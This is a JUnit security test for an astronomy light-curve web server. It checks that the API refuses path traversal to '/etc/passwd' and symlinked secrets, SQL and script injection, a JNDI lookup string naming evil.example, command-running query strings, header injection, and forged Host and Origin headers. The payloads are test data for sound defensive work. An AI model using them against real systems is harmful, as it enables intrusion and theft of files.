package org.alidade.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Light-curve pages give out nothing beyond the store and the folders that were named. */
class LightCurveSecurityTest {
  private static final String SECRET = "nobody may read this";
  private static final String HOST = "Host: localhost";

  @TempDir static Path folder;
  private static WebServer server;
  private static Client client;

  @BeforeAll
  static void start() throws IOException {
    Path root = Files.createDirectory(folder.resolve("root"));
    Path beside = Files.createDirectory(folder.resolve("root-beside"));
    Files.writeString(folder.resolve("secret.fits"), SECRET);
    Files.writeString(beside.resolve("secret.fits"), SECRET);
    Files.createSymbolicLink(root.resolve("link.fits"), folder.resolve("secret.fits"));
    Files.createSymbolicLink(root.resolve("way"), folder);
    Path store = MockStores.write(folder.resolve("field.alc"), MockStores.field(20, 30));
    LightCurveOptions options = LightCurveOptions.defaults().withRoots(java.util.List.of(root));
    server = WebServer.start(WebOptions.of(store).withPort(0), options);
    client = new Client(server.address());
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../secret.fits",
        "..\\secret.fits",
        "link.fits",
        "way/secret.fits",
        "way",
        "../root-beside/secret.fits",
        "./../root/../secret.fits",
        "/etc/passwd",
        "file:///etc/passwd",
        "%2e%2e/secret.fits",
        "secret.fits\u0000.fits",
        "~/secret.fits",
        "//host/share",
        "../field.alc"
      })
  void pathsDoNotLeadOut(String path) {
    for (String document :
        new String[] {"image", "cutout?object=I1&", "image/check", "store/check"}) {
      String joint = document.endsWith("&") ? "" : "?";
      HttpResponse<String> answer =
          client.get("/api/" + document + joint + "path=" + encoded(path));
      assertThat(answer.body()).doesNotContain(SECRET, "root:", folder.toString());
      if (document.endsWith("check")) {
        assertThat(answer.body()).containsAnyOf("No such", "no store");
      } else {
        assertThat(answer.statusCode()).isEqualTo(404);
      }
    }
    String absolute = folder.resolve(path.replace("\0", "")).toString();
    assertThat(client.get("/api/image?path=" + encoded(absolute)).statusCode()).isEqualTo(404);
    HttpResponse<String> opened =
        client.post(
            "/api/store/open",
            "{\"path\": \"" + path.replace("\\", "\\\\").replace("\0", "\\u0000") + "\"}");
    assertThat(opened.statusCode()).isIn(400, 404);
    assertThat(opened.body()).doesNotContain(folder.toString());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "I1' OR '1'='1",
        "I1\"; DROP TABLE objects; --",
        "../../../etc/passwd",
        "<script>alert(1)</script>",
        "\u0000",
        "I999999999999999999999",
        "-1",
        "${jndi:ldap://evil.example/a}",
        "I1%0d%0aSet-Cookie: a=b"
      })
  void hostileIdsAreUnknownObjects(String id) {
    for (String document :
        new String[] {
          "lightcurve?types=ch1_sci-mag_auto&",
          "summary?",
          "cutout?",
          "export?types=ch1_sci-mag_auto&"
        }) {
      HttpResponse<String> answer = client.get("/api/" + document + "object=" + encoded(id));
      assertThat(answer.statusCode()).as(document + id).isEqualTo(404);
      assertThat(answer.body()).doesNotContain("<script", "DROP", "jndi", "Exception");
      assertThat(answer.headers().firstValue("Set-Cookie")).isEmpty();
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "__import__('os').system('id') == 0",
        "@pd.read_csv('/etc/passwd') > 1",
        "object.__class__ == 1",
        "1 if ra else 2",
        "(lambda: 1)() == 1",
        "java.lang.Runtime.exec('id') == 1",
        "ra > 0; DROP TABLE objects",
        "[x for x in ra]",
        "exec(ra) > 1"
      })
  void queriesAreNeverRun(String query) {
    HttpResponse<String> answer = client.get("/api/objects?query=" + encoded(query));
    assertThat(answer.statusCode()).isEqualTo(400);
    assertThat(Client.json(answer).has("position")).isTrue();
  }

  @Test
  void lengthsAreBounded() {
    HttpResponse<String> tooLong = client.get("/api/objects?query=" + "a".repeat(4500));
    assertThat(tooLong.statusCode()).isEqualTo(400);
    assertThat(tooLong.body()).contains("too long");
    String deep = "(".repeat(1000) + "ra>1" + ")".repeat(1000);
    assertThat(client.get("/api/objects?query=" + deep.replace(">", "%3E")).statusCode())
        .isEqualTo(400);
    assertThat(
            Client.status(
                client.raw("GET /api/objects?query=" + "a".repeat(9000) + " HTTP/1.1", HOST)))
        .isIn(400, 414, 431);
    String many = "I1,".repeat(150) + "I2";
    assertThat(client.get("/api/lightcurve?types=ch1_sci-mag_auto&object=" + many).statusCode())
        .isEqualTo(200);
    StringBuilder objects = new StringBuilder("x0");
    for (int i = 1; i < 150; i++) {
      objects.append(",x").append(i);
    }
    assertThat(client.get("/api/lightcurve?types=ch1_sci-mag_auto&object=" + objects).statusCode())
        .isEqualTo(400);
    String body = "{\"path\": \"" + "a".repeat(20_000) + "\"}";
    assertThat(client.post("/api/store/open", body).statusCode()).isIn(400, 413);
  }

  @ParameterizedTest
  @ValueSource(strings = {"evil.example", "localhost.evil.example", "127.0.0.1.evil.example:8642"})
  void foreignNamesAreRefused(String host) {
    for (String path :
        new String[] {"/api/store", "/api/objects", "/pipeline", "/api/lightcurve"}) {
      String answer = client.raw("GET " + path + " HTTP/1.1", "Host: " + host);
      assertThat(Client.status(answer)).isEqualTo(403);
    }
    String posted =
        client.raw(
            "POST /api/store/open HTTP/1.1",
            "Host: " + host,
            "Content-Type: application/json",
            "Content-Length: 0");
    assertThat(Client.status(posted)).isEqualTo(403);
  }

  @Test
  void foreignPagesCannotAct() {
    String request = "POST /api/store/open HTTP/1.1";
    String type = "Content-Type: application/json";
    String empty = "Content-Length: 0";
    assertThat(Client.status(client.raw(request, HOST, type, empty, "Origin: http://evil.example")))
        .isEqualTo(403);
    assertThat(Client.status(client.raw(request, HOST, type, empty, "Origin: null")))
        .isEqualTo(403);
    assertThat(Client.status(client.raw(request, HOST, type, empty, "Sec-Fetch-Site: cross-site")))
        .isEqualTo(403);
    assertThat(Client.status(client.raw(request, HOST, empty, "Content-Type: text/plain")))
        .isEqualTo(403);
    assertThat(Client.status(client.raw(request, HOST, empty))).isEqualTo(403);
    assertThat(Client.status(client.raw(request, HOST, type, empty))).isEqualTo(400);
  }

  @ParameterizedTest
  @ValueSource(strings = {"POST", "PUT", "DELETE", "PATCH", "OPTIONS"})
  void whatIsReadCannotBeSentTo(String method) {
    for (String path :
        new String[] {"/api/objects", "/api/store", "/api/files/0/export", "/pipeline"}) {
      String answer =
          client.raw(
              method + " " + path + " HTTP/1.1",
              HOST,
              "Content-Type: application/json",
              "Content-Length: 0");
      assertThat(Client.status(answer)).as(method + path).isIn(400, 404, 405, 501);
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"{", "[]", "null", "\"x\"", "{}", "{\"path\": 3}", "{\"path\": \"\"}"})
  void malformedRequestsAreRefusedInWords(String body) {
    HttpResponse<String> answer = client.post("/api/store/open", body);
    assertThat(answer.statusCode()).isEqualTo(400);
    assertThat(Client.json(answer).path("problem").asText()).isNotBlank();
  }

  @Test
  void withoutAPipelineNothingIsRun() {
    assertThat(client.post("/api/pipeline/run", "{}").statusCode()).isEqualTo(404);
    assertThat(client.json("/api/pipeline/assets").path("watched").asBoolean()).isFalse();
  }

  @Test
  void onlyTheViewerMayUseTheGraphicsProcessor() {
    assertThat(client.get("/").headers().firstValue("Content-Security-Policy").orElseThrow())
        .startsWith("default-src 'none'; script-src 'self' 'unsafe-eval';");
    assertThat(
            client.get("/pipeline").headers().firstValue("Content-Security-Policy").orElseThrow())
        .startsWith("default-src 'none'; script-src 'self';");
  }
}
